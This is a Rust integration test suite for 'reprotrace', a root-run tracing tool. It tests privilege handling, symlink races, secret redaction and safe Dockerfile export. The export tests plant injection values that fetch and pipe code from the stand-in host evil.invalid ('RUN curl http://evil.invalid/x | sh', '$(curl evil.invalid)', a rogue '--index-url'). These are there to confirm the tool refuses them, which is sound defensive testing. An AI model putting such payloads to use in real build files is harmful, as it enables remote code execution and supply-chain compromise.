//! reprotrace runs as root on behalf of users: what a sudo audit reads,
//! hashes and writes, it does with the user's rights; it follows other
//! users' processes only when told; secrets stay out of manifests; bad
//! output paths are refused before anything runs, and a failed write at the
//! end loses nothing. A real unprivileged user is created for these tests,
//! and runs reprotrace through the real sudo (a sudoers rule of its own).

use std::{
    os::unix::{
        fs::{MetadataExt, PermissionsExt},
        process::CommandExt,
    },
    path::{Path, PathBuf},
    process::{Child, Command, Output},
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use reprotrace_tests::{reprotrace_bin, sha256_of, TestUser};
use serde_json::Value;

/// A directory only root may enter, holding `secret`.
fn root_only_secret() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "root's secret\n").expect("secret");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    (dir, secret)
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn manifest(path: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).expect("manifest")).expect("JSON")
}

#[test]
fn a_sudo_audit_reads_hashes_and_writes_with_the_users_rights() {
    let user = TestUser::create("rw");
    let home = user.home();
    let (_root_dir, secret) = root_only_secret();
    let out = home.path().join("m.json");
    // The command leaves, as its output, a symlink to a root-only file.
    let script = format!("echo hi > out.txt; rm out.txt; ln -s {} out.txt; echo kept > kept.txt", secret.display());
    let output = user
        .sudo(&["run", "--quiet", "-o"])
        .arg(&out)
        .args(["--", "sh", "-c", &script])
        .current_dir(home.path())
        .pre_exec_umask(0o027)
        .output()
        .expect("reprotrace");
    assert!(output.status.success(), "{}", stderr(&output));
    let metadata = std::fs::metadata(&out).expect("manifest");
    assert_eq!((metadata.uid(), metadata.gid()), (user.uid, user.gid), "the user's, made by the user");
    assert_eq!(metadata.mode() & 0o777, 0o640, "0666 less the umask");
    let text = std::fs::read_to_string(&out).expect("manifest");
    assert!(manifest(&out)["environment"]["SUDO_COMMAND"].is_string(), "run through the real sudo");
    assert!(!text.contains(&sha256_of("root's secret\n")), "a root-only file's hash leaked:\n{text}");
    assert!(text.contains(&sha256_of("kept\n")), "the user's own output is hashed");

    // An output where the user may not write is refused before the command runs.
    let marker = home.path().join("ran");
    for refused in [secret.clone(), secret.with_file_name("new.json")] {
        let output =
            user.sudo(&["run", "-o"]).arg(&refused).args(["--", "touch"]).arg(&marker).output().expect("reprotrace");
        assert_eq!(output.status.code(), Some(125), "{}", stderr(&output));
        assert!(stderr(&output).contains("Permission denied"), "{}", stderr(&output));
        assert!(!marker.exists(), "the command ran");
    }
    let metadata = std::fs::metadata(&secret).expect("secret");
    assert_eq!((metadata.uid(), metadata.mode() & 0o777), (0, 0o600), "root's file stays root's");
    assert_eq!(std::fs::read_to_string(&secret).expect("secret"), "root's secret\n");
}

trait PreExecUmask {
    fn pre_exec_umask(&mut self, mask: libc::mode_t) -> &mut Self;
}

impl PreExecUmask for Command {
    fn pre_exec_umask(&mut self, mask: libc::mode_t) -> &mut Self {
        // SAFETY: umask is async-signal-safe and touches no memory.
        unsafe {
            self.pre_exec(move || {
                libc::umask(mask);
                Ok(())
            })
        }
    }
}

#[test]
fn a_symlink_race_on_the_output_never_hands_a_root_file_over() {
    let user = TestUser::create("race");
    let home = user.home();
    let (_root_dir, secret) = root_only_secret();
    let out = home.path().join("m.json");
    let racing = AtomicBool::new(true);
    std::thread::scope(|scope| {
        // The user swaps the output for a symlink to root's file, again and again.
        let racer = scope.spawn(|| {
            let deadline = Instant::now() + Duration::from_secs(120);
            let mut swaps = 0u64;
            while racing.load(Ordering::Relaxed) && Instant::now() < deadline {
                let _ = std::fs::remove_file(&out);
                let _ = std::os::unix::fs::symlink(&secret, &out);
                swaps += 1;
                std::thread::yield_now();
            }
            swaps
        });
        for _ in 0..6 {
            let output = user.sudo(&["run", "--quiet", "-o"]).arg(&out).args(["--", "true"]).output().expect("run");
            // Won or lost, the audit never touches root's file.
            assert!(matches!(output.status.code(), Some(0) | Some(125)), "{}", stderr(&output));
        }
        racing.store(false, Ordering::Relaxed);
        assert!(racer.join().expect("racer") > 0);
    });
    let metadata = std::fs::metadata(&secret).expect("secret");
    assert_eq!((metadata.uid(), metadata.gid(), metadata.mode() & 0o777), (0, 0, 0o600), "root's file was handed over");
    assert_eq!(std::fs::read_to_string(&secret).expect("secret"), "root's secret\n");
}

#[test]
fn attach_follows_other_users_processes_only_when_told() {
    let user = TestUser::create("at");
    let mut sleeper = Command::new("setpriv")
        .args(["--reuid", &user.uid.to_string(), "--regid", &user.gid.to_string(), "--clear-groups", "sleep", "60"])
        .spawn()
        .expect("setpriv");
    // setpriv execs sleep: same pid, once its uids changed.
    let deadline = Instant::now() + Duration::from_secs(10);
    while !std::fs::read_to_string(format!("/proc/{}/status", sleeper.id()))
        .is_ok_and(|status| status.contains(&format!("Uid:\t{}", user.uid)))
    {
        assert!(Instant::now() < deadline, "the sleeper never became the user's");
        std::thread::sleep(Duration::from_millis(10));
    }
    let pid = sleeper.id().to_string();
    let dir = tempfile::tempdir().expect("tempdir");
    let attach = |extra: &[&str], pid: &str| {
        Command::new(reprotrace_bin())
            .args(["attach", "--quiet", "--duration", "1", "--pid", pid, "-o"])
            .arg(dir.path().join("attach.json"))
            .args(extra)
            .output()
            .expect("attach")
    };
    // Root, for another user's process: only with --all-users.
    let refused = attach(&[], &pid);
    assert_eq!(refused.status.code(), Some(125), "{}", stderr(&refused));
    let said = stderr(&refused);
    assert!(said.contains(&format!("uid {}: pid {pid}", user.uid)) && said.contains("--all-users"), "{said}");
    let allowed = attach(&["--all-users"], &pid);
    assert_eq!(allowed.status.code(), Some(0), "{}", stderr(&allowed));

    // The user, through sudo: their own process, yes; pid 1's tree, no.
    let home = user.home();
    let out = home.path().join("own.json");
    let own =
        user.sudo(&["attach", "--quiet", "--duration", "1", "--pid", &pid, "-o"]).arg(&out).output().expect("attach");
    assert_eq!(own.status.code(), Some(0), "{}", stderr(&own));
    assert_eq!(std::fs::metadata(&out).expect("manifest").uid(), user.uid);
    let init = user.sudo(&["attach", "--duration", "1", "--pid", "1", "-o"]).arg(&out).output().expect("attach");
    assert_eq!(init.status.code(), Some(125), "{}", stderr(&init));
    assert!(stderr(&init).contains("give --all-users"), "{}", stderr(&init));
    let _ = sleeper.kill();
    let _ = sleeper.wait();
}

#[test]
fn attach_kernel_wants_a_kernel_listening_on_the_file_s_port() {
    let dir = tempfile::tempdir().expect("tempdir");
    let output = dir.path().join("m.json");
    let attach = |connection: &Path| {
        Command::new(reprotrace_bin())
            .args(["attach", "--duration", "1", "--kernel"])
            .arg(connection)
            .arg("-o")
            .arg(&output)
            .output()
            .expect("attach")
    };
    // Any regular file is not a kernel, nor reprotrace itself.
    let hostname = attach(Path::new("/etc/hostname"));
    assert_eq!(hostname.status.code(), Some(125));
    assert!(stderr(&hostname).contains("not a kernel connection file"), "{}", stderr(&hostname));
    // A kernel that has gone: nothing listens on its port.
    let port = std::net::TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr").port();
    let stale = dir.path().join("kernel-stale.json");
    std::fs::write(&stale, format!(r#"{{"ip": "127.0.0.1", "shell_port": {port}, "transport": "tcp", "key": "k"}}"#))
        .expect("connection file");
    let gone = attach(&stale);
    assert_eq!(gone.status.code(), Some(125));
    assert!(stderr(&gone).contains("nothing listens on its shell port"), "{}", stderr(&gone));
    assert!(!output.exists());
}

#[test]
fn the_daemon_refuses_a_socket_path_that_is_a_file() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("precious.txt");
    std::fs::write(&file, "keep me").expect("file");
    let output = Command::new(reprotrace_bin()).args(["daemon", "--socket"]).arg(&file).output().expect("daemon");
    assert_eq!(output.status.code(), Some(125), "{}", stderr(&output));
    assert!(stderr(&output).contains("exists and is not a socket"), "{}", stderr(&output));
    assert_eq!(std::fs::read_to_string(&file).expect("still there"), "keep me");
}

#[test]
fn secrets_are_redacted_and_the_manifest_says_where() {
    let dir = tempfile::tempdir().expect("tempdir");
    let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
    let run = |extra: &[&str], name: &str| {
        let out = dir.path().join(format!("{name}.json"));
        let output = Command::new(reprotrace_bin())
            .env("GITHUB_TOKEN", token)
            .env("DB_PASSWORD", "db-pass-9")
            .env("AWS_SECRET_ACCESS_KEY", "aws-secret-7")
            .env("SERVICE_API_KEY", "api-key-5")
            .env("KEY_FILE", "/etc/ssl/private/k.pem")
            .args(["run", "--quiet", "-o"])
            .arg(&out)
            .args(extra)
            .args(["--", "sh", "-c", "exit 0", "sh", "--password=hunter2", "https://alice:s3cret@example.invalid/x"])
            .args(["corp-4242", "plain\n--index-url http://evil.invalid/simple"])
            .output()
            .expect("reprotrace");
        assert!(output.status.success(), "{}", stderr(&output));
        (out, std::fs::read_to_string(dir.path().join(format!("{name}.json"))).expect("manifest"))
    };
    let (redacted, text) = run(&["--redact", "corp-[0-9]+"], "redacted");
    for secret in [token, "db-pass-9", "aws-secret-7", "api-key-5", "hunter2", "s3cret", "corp-4242"] {
        assert!(!text.contains(secret), "{secret} is in the manifest");
    }
    let manifest: Value = serde_json::from_str(&text).expect("JSON");
    assert_eq!(manifest["command"][4], "--password=<redacted>");
    assert_eq!(manifest["command"][5], "https://alice:<redacted>@example.invalid/x");
    assert_eq!(manifest["environment"]["GITHUB_TOKEN"], "<redacted>");
    assert!(manifest["environment"]["PATH"].as_str().is_some_and(|path| path.contains("/usr/bin")));
    // The platform and release, as this machine's own tools say them.
    let said = |program: &str, args: &[&str]| {
        let output = Command::new(program).args(args).output().expect(program);
        String::from_utf8_lossy(&output.stdout).trim().to_string()
    };
    assert_eq!(manifest["platform"]["kernel"], said("uname", &["-r"]));
    assert_eq!(manifest["platform"]["arch"], said("uname", &["-m"]));
    assert_eq!(manifest["platform"]["cpus"], said("nproc", &["--all"]).parse::<u64>().expect("a count"));
    let cpuinfo = std::fs::read_to_string("/proc/cpuinfo").expect("cpuinfo");
    let model = cpuinfo
        .lines()
        .find_map(|line| line.strip_prefix("model name"))
        .map(|rest| rest.trim_start_matches([' ', '\t', ':']));
    assert_eq!(manifest["platform"]["cpu_model"].as_str(), model.map(str::trim));
    let release = std::fs::read_to_string("/etc/os-release").expect("os-release");
    let field = |name: &str| {
        release.lines().find_map(|line| line.strip_prefix(&format!("{name}="))).map(|value| value.trim_matches('"'))
    };
    assert_eq!(manifest["os"]["id"].as_str(), field("ID"));
    assert_eq!(manifest["os"]["version_id"].as_str(), field("VERSION_ID"));
    // Every secret-looking name, whatever its kind.
    assert_eq!(manifest["environment"]["DB_PASSWORD"], "<redacted>");
    assert_eq!(manifest["environment"]["AWS_SECRET_ACCESS_KEY"], "<redacted>");
    assert_eq!(manifest["environment"]["SERVICE_API_KEY"], "<redacted>");
    assert_eq!(manifest["environment"]["KEY_FILE"], "/etc/ssl/private/k.pem", "a path to a key is no key");
    let places: Vec<&str> = manifest["redaction"]["redacted"]
        .as_array()
        .expect("redacted")
        .iter()
        .filter_map(|entry| entry["place"].as_str())
        .collect();
    for place in ["command[4]", "command[5]", "command[6]", "environment.GITHUB_TOKEN", "environment.DB_PASSWORD"] {
        assert!(places.contains(&place), "{place} not marked: {places:?}");
    }
    // Exports print no secret, and no argument breaks out of the header.
    let export =
        Command::new(reprotrace_bin()).args(["export", "requirements"]).arg(&redacted).output().expect("export");
    let exported = String::from_utf8_lossy(&export.stdout);
    assert!(export.status.success() && !exported.contains("hunter2"), "{exported}");
    assert!(!exported.lines().any(|line| line.starts_with("--index-url")), "{exported}");

    let (_, verbatim) = run(&["--no-redact"], "verbatim");
    assert!(verbatim.contains("hunter2") && verbatim.contains(token));
    assert_eq!(serde_json::from_str::<Value>(&verbatim).expect("JSON")["redaction"]["enabled"], false);
}

/// `export docker` of a real run whose argv holds a newline: the argument
/// stays inside its JSON string. The same manifest with a crafted version,
/// requirement, `FROM` or `WORKDIR`: refused, naming the field, nothing written.
#[test]
fn export_docker_escapes_arguments_and_refuses_crafted_fields() {
    let dir = tempfile::tempdir().expect("tempdir");
    let work = dir.path();
    std::fs::write(work.join("input.csv"), "1\n").expect("input");
    let evil = "x\nRUN curl http://evil.invalid/x | sh\n#";
    let ran = Command::new(reprotrace_bin())
        .current_dir(work)
        .args(["run", "-q", "--backend", "strace", "-o", "run.json", "--", "sh", "-c"])
        .args(["cat input.csv > out.txt", "sh", evil])
        .output()
        .expect("reprotrace run");
    assert!(ran.status.success(), "{}", stderr(&ran));
    let export = |manifest: &str, out: &str| {
        Command::new(reprotrace_bin()).current_dir(work).args(["export", "docker", manifest, "-o", out]).output()
    };
    let exported = export("run.json", "docker").expect("export");
    assert!(exported.status.success(), "{}", stderr(&exported));
    let dockerfile = std::fs::read_to_string(work.join("docker/Dockerfile")).expect("Dockerfile");
    let mut continued = false;
    for line in dockerfile.lines() {
        let known =
            ["# ", "FROM ", "ARG ", "RUN [", "COPY ", "WORKDIR ", "CMD ["].iter().any(|start| line.starts_with(start));
        assert!(continued || known, "a line no instruction starts: {line:?} in\n{dockerfile}");
        continued = line.ends_with('\\');
    }
    let cmd = dockerfile.lines().find_map(|line| line.strip_prefix("CMD ")).expect("CMD");
    let argv: Vec<String> = serde_json::from_str(cmd).expect("CMD in JSON form");
    assert_eq!(argv, ["sh", "-c", "cat input.csv > out.txt", "sh", evil]);
    assert!(dockerfile.contains("\"libc6="), "{dockerfile}");

    let original: Value =
        serde_json::from_slice(&std::fs::read(work.join("run.json")).expect("manifest")).expect("JSON");
    let six = serde_json::json!({"name": "six", "version": "1.16.0", "installer": "pip",
        "location": "/opt/venv/lib/python3.11/site-packages", "editable": false, "files_used": 1});
    type Edit = fn(&mut Value, &Value);
    let crafted: [(&str, Edit); 5] = [
        ("software.system_packages[0].version", |m, _| {
            m["software"]["system_packages"][0]["version"] = "1.0 && curl http://evil.invalid/y|sh #".into()
        }),
        ("software.python[0].version", |m, six| {
            m["software"]["python"] = serde_json::json!([six]);
            m["software"]["python"][0]["version"] = "1.0\n--index-url http://evil.invalid/simple".into();
        }),
        ("software.python[0].name", |m, six| {
            m["software"]["python"] = serde_json::json!([six]);
            m["software"]["python"][0]["name"] = "--index-url=http://evil.invalid/simple".into();
        }),
        ("os.version_id", |m, _| m["os"]["version_id"] = "12\nRUN curl http://evil.invalid/z|sh".into()),
        ("cwd", |m, _| m["cwd"] = "/tmp/$(curl evil.invalid)".into()),
    ];
    for (at, (field, edit)) in crafted.into_iter().enumerate() {
        let mut manifest = original.clone();
        edit(&mut manifest, &six);
        let name = format!("crafted{at}.json");
        std::fs::write(work.join(&name), manifest.to_string()).expect("crafted manifest");
        let out = format!("refused{at}");
        let refused = export(&name, &out).expect("export");
        assert_eq!(refused.status.code(), Some(125), "{field}: {}", stderr(&refused));
        assert!(stderr(&refused).contains(&format!("the manifest's {field} is ")), "{field}: {}", stderr(&refused));
        assert!(!work.join(&out).exists(), "{field}: nothing is written");
    }
}

/// A tmpfs mounted on a fresh directory, unmounted when dropped.
struct Tmpfs {
    dir: tempfile::TempDir,
}

impl Tmpfs {
    fn mount(options: &str) -> Tmpfs {
        let dir = tempfile::tempdir().expect("tempdir");
        let status = Command::new("mount")
            .args(["-t", "tmpfs", "-o", options, "tmpfs"])
            .arg(dir.path())
            .status()
            .expect("mount");
        assert!(status.success(), "mount -o {options}");
        Tmpfs { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg("--lazy").arg(self.dir.path()).status();
    }
}

#[test]
fn an_output_that_cannot_be_written_is_refused_before_anything_runs() {
    let dir = tempfile::tempdir().expect("tempdir");
    let read_only = Tmpfs::mount("ro,size=64k");
    let marker = dir.path().join("ran");
    let cases = [
        (dir.path().join("missing/m.json"), "does not exist: create it first"),
        (dir.path().to_path_buf(), "it is a directory"),
        (read_only.path().join("m.json"), "Read-only file system"),
    ];
    for (output, said) in cases {
        let result = Command::new(reprotrace_bin())
            .args(["run", "-o"])
            .arg(&output)
            .args(["--", "touch"])
            .arg(&marker)
            .output()
            .expect("reprotrace");
        assert_eq!(result.status.code(), Some(125), "{}", stderr(&result));
        assert!(stderr(&result).contains(said), "{}", stderr(&result));
        assert!(!marker.exists(), "the command ran despite {}", output.display());
    }
    // A device is written to as it is, never replaced.
    let null =
        Command::new(reprotrace_bin()).args(["run", "--quiet", "-o", "/dev/null", "--", "true"]).output().expect("run");
    assert!(null.status.success(), "{}", stderr(&null));
    use std::os::unix::fs::FileTypeExt;
    assert!(std::fs::metadata("/dev/null").expect("/dev/null").file_type().is_char_device());
}

#[test]
fn a_full_disk_at_the_end_keeps_the_audit_and_the_exit_code() {
    let full = Tmpfs::mount("size=64k");
    let fallback = tempfile::tempdir().expect("tempdir");
    let script = format!("head -c 1M /dev/zero > {}/fill; exit 3", full.path().display());
    let output = Command::new(reprotrace_bin())
        .env("TMPDIR", fallback.path())
        .args(["run", "-o"])
        .arg(full.path().join("m.json"))
        .args(["--", "sh", "-c", &script])
        .output()
        .expect("reprotrace");
    assert_eq!(output.status.code(), Some(3), "the command's code: {}", stderr(&output));
    let said = stderr(&output);
    assert!(said.contains("No space left on device") && said.contains("the manifest was saved to"), "{said}");
    assert!(!said.contains("at path"), "the temporary file's name says nothing to the user: {said}");
    let saved: Vec<PathBuf> =
        std::fs::read_dir(fallback.path()).expect("dir").flatten().map(|entry| entry.path()).collect();
    assert_eq!(saved.len(), 1, "{saved:?}");
    assert!(said.contains(&saved[0].display().to_string()), "{said}");
    assert_eq!(manifest(&saved[0])["exit_code"], 3);
}

#[test]
fn strace_attach_goes_on_without_a_process_traced_already() {
    // Every wait below is bounded and says what it waited for: a hang here
    // must fail this test, never stall the whole run.
    let mut processes = Processes::default();
    let free = processes.spawn(Command::new("sleep").arg("60"));
    let taken = processes.spawn(Command::new("sleep").arg("60"));
    let other_strace = processes.spawn(Command::new("strace").args(["-o", "/dev/null", "-p"]).arg(taken.to_string()));
    let deadline = Instant::now() + Duration::from_secs(10);
    while tracer_of(taken) != Some(other_strace) {
        assert!(Instant::now() < deadline, "strace never attached");
        std::thread::sleep(Duration::from_millis(10));
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("m.json");
    let attach = |pids: &[u32]| {
        let mut command = Command::new(reprotrace_bin());
        command.args(["attach", "--backend", "strace", "--duration", "2", "-o"]).arg(&out);
        for pid in pids {
            command.args(["--pid", &pid.to_string()]);
        }
        // A file, not a pipe: nothing left holding it open can block the read.
        let log = dir.path().join("stderr");
        let mut child = command.stderr(std::fs::File::create(&log).expect("stderr file")).spawn().expect("attach");
        let status = wait_bounded(&mut child, Duration::from_secs(60), "attach ignored --duration");
        (status, std::fs::read_to_string(&log).expect("stderr"))
    };
    let (status, messages) = attach(&[free, taken]);
    assert_eq!(status.code(), Some(0), "{messages}");
    assert!(messages.contains(&format!("pid {taken} is traced already, by pid {other_strace}")), "{messages}");
    assert_eq!(manifest(&out)["stats"]["complete"], false, "what the other process did is missing");
    let (status, messages) = attach(&[taken]);
    assert_eq!(status.code(), Some(125), "{messages}");
    assert!(messages.contains("could not attach to any of the processes"), "{messages}");
}

/// A process strace may not trace (root's, for a user without sudo) is left
/// out with strace's reason, the user's own is followed, and `--duration` is
/// honoured; with nothing it may trace, the attach fails clearly.
#[test]
fn strace_attach_goes_on_without_a_process_it_may_not_trace() {
    let user = TestUser::create("np");
    let home = user.home();
    let mut processes = Processes::default();
    let roots = processes.spawn(Command::new("sleep").arg("60"));
    let own = processes.spawn(user.command("/usr/bin/sleep").arg("60"));
    let out = home.path().join("m.json");
    let attach = |pids: &[u32]| {
        let mut command = user.command(reprotrace_bin());
        command.args(["attach", "--backend", "strace", "--all-users", "--duration", "2", "-o"]).arg(&out);
        for pid in pids {
            command.args(["--pid", &pid.to_string()]);
        }
        let log = home.path().join("stderr");
        let mut child = command.stderr(std::fs::File::create(&log).expect("stderr file")).spawn().expect("attach");
        let status = wait_bounded(&mut child, Duration::from_secs(60), "attach ignored --duration");
        (status, std::fs::read_to_string(&log).expect("stderr"))
    };
    let (status, messages) = attach(&[own, roots]);
    assert_eq!(status.code(), Some(0), "{messages}");
    assert!(messages.contains(&format!("pid {roots} refused strace")), "{messages}");
    let manifest = manifest(&out);
    assert_eq!(manifest["stats"]["complete"], false, "what root's process did is missing");
    assert!(
        manifest["processes"].as_array().expect("processes").iter().any(|process| process["pid"] == own),
        "{:#}",
        manifest["processes"]
    );
    let (status, messages) = attach(&[roots]);
    assert_eq!(status.code(), Some(125), "{messages}");
    assert!(messages.contains("could not attach to any of the processes"), "{messages}");
}

/// A strace attach whose reprotrace is killed outright (no `finish`, no
/// `Drop`) leaves the process it followed running and untraced: strace is
/// killed when its parent dies, and the kernel detaches it, rather than go
/// on stopping the user's process at every syscall for a log no one reads.
#[test]
fn a_killed_strace_attach_leaves_nothing_traced() {
    let mut processes = Processes::default();
    let sleeper = processes.spawn(Command::new("sleep").arg("60"));
    let dir = tempfile::tempdir().expect("tempdir");
    let mut attach = Command::new(reprotrace_bin())
        .args(["attach", "--backend", "strace", "--pid", &sleeper.to_string(), "-o"])
        .arg(dir.path().join("m.json"))
        .stderr(std::fs::File::create(dir.path().join("stderr")).expect("stderr file"))
        .spawn()
        .expect("attach");
    let deadline = Instant::now() + Duration::from_secs(10);
    let strace = loop {
        match tracer_of(sleeper) {
            Some(0) | None => {
                assert!(Instant::now() < deadline, "strace never attached");
                std::thread::sleep(Duration::from_millis(10));
            }
            Some(tracer) => break tracer,
        }
    };
    attach.kill().expect("SIGKILL");
    let _ = attach.wait();
    let running = |pid: u32| {
        std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .is_ok_and(|stat| stat.rsplit(')').next().is_some_and(|rest| !rest.trim_start().starts_with('Z')))
    };
    let deadline = Instant::now() + Duration::from_secs(10);
    while tracer_of(sleeper) != Some(0) || running(strace) {
        assert!(
            Instant::now() < deadline,
            "strace (pid {strace}) outlived reprotrace: the sleeper's tracer is {:?}",
            tracer_of(sleeper)
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // Untraced, and not because it died with its tracer.
    assert!(running(sleeper), "the process strace followed was killed with it");
}

/// The `TracerPid` of process `pid` (0: untraced); `None` once it is gone.
fn tracer_of(pid: u32) -> Option<u32> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status.lines().find_map(|line| line.strip_prefix("TracerPid:")).and_then(|tracer| tracer.trim().parse().ok())
}

/// Processes a test started, killed and reaped when it ends however it ends;
/// a tracer goes first so that its tracee can be reaped at once.
#[derive(Default)]
struct Processes(Vec<Child>);

impl Processes {
    fn spawn(&mut self, command: &mut Command) -> u32 {
        let child = command.spawn().expect("spawn");
        let pid = child.id();
        self.0.push(child);
        pid
    }
}

impl Drop for Processes {
    fn drop(&mut self) {
        for mut child in self.0.drain(..).rev() {
            let _ = child.kill();
            let what = format!("pid {} did not end once killed", child.id());
            wait_bounded(&mut child, Duration::from_secs(10), &what);
        }
    }
}

/// Waits for `child` at most `patience`, then kills it and panics with `what`.
fn wait_bounded(child: &mut Child, patience: Duration, what: &str) -> std::process::ExitStatus {
    let deadline = Instant::now() + patience;
    loop {
        if let Some(status) = child.try_wait().expect("wait") {
            return status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            if !std::thread::panicking() {
                panic!("{what}");
            }
            eprintln!("{what}");
            return std::process::ExitStatus::default();
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn files_over_the_hash_limit_are_marked_not_hashed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("m.json");
    let output = Command::new(reprotrace_bin())
        .current_dir(dir.path())
        .args(["run", "--hash-limit", "1M", "-o"])
        .arg(&out)
        .args(["--", "sh", "-c", "truncate -s 20G sparse.bin; echo small > small.txt"])
        .output()
        .expect("reprotrace");
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stderr(&output).contains("--hash-limit none"), "{}", stderr(&output));
    let manifest = manifest(&out);
    let outputs = manifest["data"]["outputs"].as_array().expect("outputs");
    let entry = |name: &str| {
        outputs.iter().find(|entry| entry["path"].as_str().is_some_and(|path| path.ends_with(name))).expect(name)
    };
    let sparse = entry("/sparse.bin");
    assert_eq!(
        (&sparse["size"], &sparse["sha256"], &sparse["over_hash_limit"]),
        (&Value::from(20u64 << 30), &Value::Null, &Value::Bool(true))
    );
    assert_eq!(entry("/small.txt")["sha256"], sha256_of("small\n"));
}

#[test]
fn usage_errors_exit_2_and_causes_print_once() {
    let misspelled = Command::new(reprotrace_bin()).args(["run", "--dsak", "--", "true"]).output().expect("run");
    assert_eq!(misspelled.status.code(), Some(2), "{}", stderr(&misspelled));
    assert!(stderr(&misspelled).contains("unexpected argument '--dsak'"), "{}", stderr(&misspelled));
    let missing = Command::new(reprotrace_bin()).args(["show", "/nonexistent/m.json"]).output().expect("show");
    assert_eq!(missing.status.code(), Some(125));
    assert_eq!(stderr(&missing).matches("os error 2").count(), 1, "{}", stderr(&missing));
}
